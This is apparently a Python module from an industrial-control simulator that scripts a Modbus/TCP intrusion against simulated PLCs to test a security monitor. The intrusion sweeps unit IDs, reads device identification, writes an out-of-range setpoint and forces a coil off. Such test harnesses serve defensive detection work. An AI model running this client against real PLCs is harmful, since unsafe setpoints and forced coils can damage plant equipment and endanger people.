"""Attack scenarios against the simulated plant: an intruder at 127.0.66.6 that talks real
Modbus/TCP to the simulated PLCs, to exercise the security monitor end to end.

`attack-modbus`, step by step with pauses, every client socket bound to the intruder's
address: sweep unit ids on every PLC (FC 3), read device identification (FC 43/14), write
an out-of-range setpoint (FC 6) and force a coil (FC 5). Each step is logged and returned.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from isthmus.config.schema import ModbusDeviceConfig, PointConfig, RegisterTable, SiteConfig
from isthmus.connectors.modbus.codec import encode_value
from isthmus.sim.errors import SimulatorError

__all__ = ["ATTACKS", "INTRUDER", "AttackError", "AttackPlan", "AttackStep", "ModbusIntruder",
           "is_attack", "run_attack"]

_log = logging.getLogger(__name__)
INTRUDER = "127.0.66.6"
_MBAP = struct.Struct(">HHHB")


class AttackError(SimulatorError):
    """The attack cannot run: no target in the site, or the intruder cannot connect."""


@dataclass(frozen=True, slots=True)
class AttackPlan:
    name: str
    description: str
    units: range = range(0, 17)            # unit ids swept on every PLC
    pause_s: float = 2.0                   # between steps
    overshoot: float = 0.5                 # setpoint written at high + overshoot × span


ATTACKS: dict[str, AttackPlan] = {
    "attack-modbus": AttackPlan(
        "attack-modbus", "intruder at 127.0.66.6: unit-id sweep, device identification, "
                         "out-of-range setpoint write, forced coil"),
}


def is_attack(name: str | None) -> bool:
    return name is not None and name in ATTACKS


@dataclass(frozen=True, slots=True)
class AttackStep:
    ts_ns: int
    step: str                  # sweep, identify, write_setpoint, force_coil
    target: str                # host:port unit N
    request: str
    outcome: str
    tag: str | None = None


@dataclass(frozen=True, slots=True)
class _Target:
    device: ModbusDeviceConfig
    unit_id: int
    path: str
    point: PointConfig


def _writable(site: SiteConfig, table: RegisterTable, prefer: str) -> _Target:
    found: list[_Target] = []
    for device in site.devices:
        for unit in device.units:
            for signal, point in site.unit_points(device, unit).items():
                if point.table == table and (table == RegisterTable.COIL or point.range):
                    found.append(_Target(device, unit.unit_id, site.tag_path(unit, signal),
                                         point))
    if not found:
        raise AttackError(f"attack: the site has no writable {table.value} to target")
    return next((t for t in found if t.path.endswith("/" + prefer)), found[0])


@dataclass
class ModbusIntruder:
    """A minimal Modbus/TCP client whose sockets are bound to `source`."""

    source: str = INTRUDER
    timeout_s: float = 2.0
    _tid: int = field(default=0, init=False)

    async def request(self, host: str, port: int, unit_id: int, pdu: bytes) -> bytes:
        """Send one request on a fresh connection; the response PDU."""
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(self.source, 0)),
                self.timeout_s)
        except (OSError, TimeoutError) as exc:
            raise AttackError(f"intruder {self.source} → {host}:{port}: cannot connect: "
                              f"{exc}") from exc
        try:
            self._tid = (self._tid + 1) & 0xFFFF
            writer.write(_MBAP.pack(self._tid, 0, len(pdu) + 1, unit_id) + pdu)
            await writer.drain()
            header = await asyncio.wait_for(reader.readexactly(_MBAP.size), self.timeout_s)
            return await reader.readexactly(_MBAP.unpack(header)[2] - 1)
        except (OSError, TimeoutError, asyncio.IncompleteReadError) as exc:
            return f"no answer ({type(exc).__name__})".encode()
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()


def _outcome(reply: bytes) -> str:
    if not reply or reply.startswith(b"no answer"):
        return reply.decode() or "empty"
    if reply[0] & 0x80:
        return f"exception {reply[1] if len(reply) > 1 else '?'}"
    return "ok"


async def _sweep(intruder: ModbusIntruder, plan: AttackPlan, device: ModbusDeviceConfig,
                 log: Callable[[AttackStep], None]) -> list[int]:
    found = []
    for unit_id in plan.units:
        reply = await intruder.request(device.host, device.port, unit_id,
                                       struct.pack(">BHH", 3, 0, 1))
        outcome = _outcome(reply)
        if outcome == "ok" or (outcome.startswith("exception") and outcome != "exception 11"):
            found.append(unit_id)
        log(AttackStep(time.time_ns(), "sweep", f"{device.host}:{device.port} unit {unit_id}",
                       "FC 3 read 1 holding register at 0", outcome))
    return found


async def run_attack(site: SiteConfig, plan: AttackPlan, *,
                     intruder: ModbusIntruder | None = None,
                     log: Callable[[AttackStep], None] | None = None) -> list[AttackStep]:
    """Run `plan` against the devices of `site` (already served); every step, in order."""
    intruder = intruder or ModbusIntruder()
    steps: list[AttackStep] = []

    def record(step: AttackStep) -> None:
        steps.append(step)
        _log.info("attack %s: %s %s: %s → %s", plan.name, step.step, step.target,
                  step.request, step.outcome)
        if log is not None:
            log(step)

    for device in site.devices:
        units = await _sweep(intruder, plan, device, record)
        await asyncio.sleep(plan.pause_s)
        for unit_id in units[:1] or [device.units[0].unit_id]:
            reply = await intruder.request(device.host, device.port, unit_id,
                                           bytes((0x2B, 0x0E, 0x01, 0x00)))
            record(AttackStep(time.time_ns(), "identify",
                              f"{device.host}:{device.port} unit {unit_id}",
                              "FC 43/14 read device identification (basic)", _outcome(reply)))
    await asyncio.sleep(plan.pause_s)
    await _write_setpoint(intruder, site, plan, record)
    await asyncio.sleep(plan.pause_s)
    await _force_coil(intruder, site, record)
    return steps


async def _write_setpoint(intruder: ModbusIntruder, site: SiteConfig, plan: AttackPlan,
                          record: Callable[[AttackStep], None]) -> None:
    target = _writable(site, RegisterTable.HOLDING_REGISTER, "setpoint")
    point = target.point
    assert point.range is not None
    low, high = point.range
    value = high + plan.overshoot * (high - low)
    raw = encode_value((value - point.offset) / point.scale, point.type,
                       byte_order=point.byte_order, word_order=point.word_order)
    if len(raw) == 1:
        pdu = struct.pack(">BHH", 6, point.address, raw[0])
    else:
        pdu = struct.pack(f">BHHB{len(raw)}H", 16, point.address, len(raw), 2 * len(raw), *raw)
    reply = await intruder.request(target.device.host, target.device.port, target.unit_id, pdu)
    record(AttackStep(time.time_ns(), "write_setpoint",
                      f"{target.device.host}:{target.device.port} unit {target.unit_id}",
                      f"FC {pdu[0]} write {value:g} {point.unit} (range {low:g}–{high:g}) "
                      f"at {point.address}", _outcome(reply), target.path))


async def _force_coil(intruder: ModbusIntruder, site: SiteConfig,
                      record: Callable[[AttackStep], None]) -> None:
    target = _writable(site, RegisterTable.COIL, "running")
    pdu = struct.pack(">BHH", 5, target.point.address, 0x0000)
    reply = await intruder.request(target.device.host, target.device.port, target.unit_id, pdu)
    record(AttackStep(time.time_ns(), "force_coil",
                      f"{target.device.host}:{target.device.port} unit {target.unit_id}",
                      f"FC 5 force coil {target.point.address} off", _outcome(reply),
                      target.path))
